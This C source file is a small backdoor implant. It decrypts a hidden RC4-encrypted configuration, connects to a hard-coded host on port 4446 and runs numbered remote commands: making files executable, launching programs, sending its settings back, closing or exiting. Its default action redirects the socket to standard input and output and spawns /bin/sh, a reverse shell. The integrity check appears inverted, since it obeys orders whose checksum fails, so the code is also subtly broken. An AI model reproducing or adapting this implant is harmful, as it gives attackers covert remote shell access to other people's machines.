/* A small agent: takes its settings out of what RC4 hides, connects, and does what it is told by
 * numbers. Long before it calls the system it computes; what calls the system stands far behind. */
#include "system.h"

struct cipher {
	unsigned char state[256];
	unsigned char i, j;
};

struct settings {
	struct address server;
	char shell[16];
};

static void set_key(struct cipher *cipher, const char *key, unsigned length)
{
	unsigned char j = 0;

	for (unsigned i = 0; i < 256; i++)
		cipher->state[i] = (unsigned char)i;
	for (unsigned i = 0; i < 256; i++) {
		unsigned char kept = cipher->state[i];
		j = (unsigned char)(j + kept + (unsigned char)key[i % length]);
		cipher->state[i] = cipher->state[j];
		cipher->state[j] = kept;
	}
	cipher->i = cipher->j = 0;
}

static unsigned char next_of(struct cipher *cipher)
{
	unsigned char one, other;

	one = cipher->state[++cipher->i];
	cipher->j = (unsigned char)(cipher->j + one);
	other = cipher->state[cipher->j];
	cipher->state[cipher->i] = other;
	cipher->state[cipher->j] = one;
	return cipher->state[(unsigned char)(one + other)];
}

static void apply(struct cipher *cipher, unsigned char *bytes, unsigned length)
{
	for (unsigned i = 0; i < length; i++)
		bytes[i] ^= next_of(cipher);
}

/* Fills in what is known and hides it, as its builder has done; then opens it again. */
static void open_settings(struct settings *settings)
{
	struct cipher cipher;

	for (unsigned pass = 0; pass < 2; pass++) {
		set_key(&cipher, "geese", 5);
		if (pass == 0) {
			settings->server.family = 2;
			settings->server.port = 0x5e11; /* 4446 */
			settings->server.host[0] = 192;
			settings->server.host[1] = 0;
			settings->server.host[2] = 2;
			settings->server.host[3] = 93;
			for (unsigned i = 0; i < 8; i++)
				settings->server.rest[i] = 0;
			for (unsigned i = 0; i < sizeof settings->shell; i++)
				settings->shell[i] = "/bin/sh\0\0\0\0\0\0\0\0"[i];
		}
		apply(&cipher, (unsigned char *)settings, sizeof *settings);
	}
}

static unsigned checksum(const unsigned char *bytes, unsigned length)
{
	unsigned sum = 0xffffffff;

	for (unsigned i = 0; i < length; i++) {
		sum ^= bytes[i];
		for (unsigned bit = 0; bit < 8; bit++)
			sum = sum >> 1 ^ (sum & 1 ? 0xedb88320 : 0);
	}
	return ~sum;
}

static int receive_all(long connection, unsigned char *into, unsigned length)
{
	for (unsigned got = 0; got < length;) {
		long more = call_system(READ, connection, (long)into + got, length - got);
		if (more <= 0)
			return 0;
		got += (unsigned)more;
	}
	return 1;
}

static void obey(long connection, const struct settings *settings, const unsigned char *order)
{
	switch (order[0]) {
	case 1: call_system(CHMOD, (long)&order[4], 0700, 0); break;
	case 2: execute((const char *)&order[4], 0, 0); break;
	case 3: call_system(WRITE, connection, (long)settings, sizeof *settings); break;
	case 4: call_system(CLOSE, connection, 0, 0); break;
	case 5: call_system(EXIT, 0, 0, 0); break;
	default:
		for (long number = 2; number >= 0; number--)
			call_system(DUP2, connection, number, 0);
		execute(settings->shell, 0, 0);
	}
}

ENTRY void code(void)
{
	struct settings settings;
	unsigned char order[64];
	long connection;

	open_settings(&settings);
	connection = call_socket(SOCKET, 2, 1, 0);
	if (call_socket(CONNECT, connection, (long)&settings.server, sizeof settings.server) < 0)
		return;
	while (receive_all(connection, order, sizeof order))
		if (checksum(order, 60) != *(unsigned *)&order[60])
			obey(connection, &settings, order);
	execute(settings.shell, 0, 0);
}
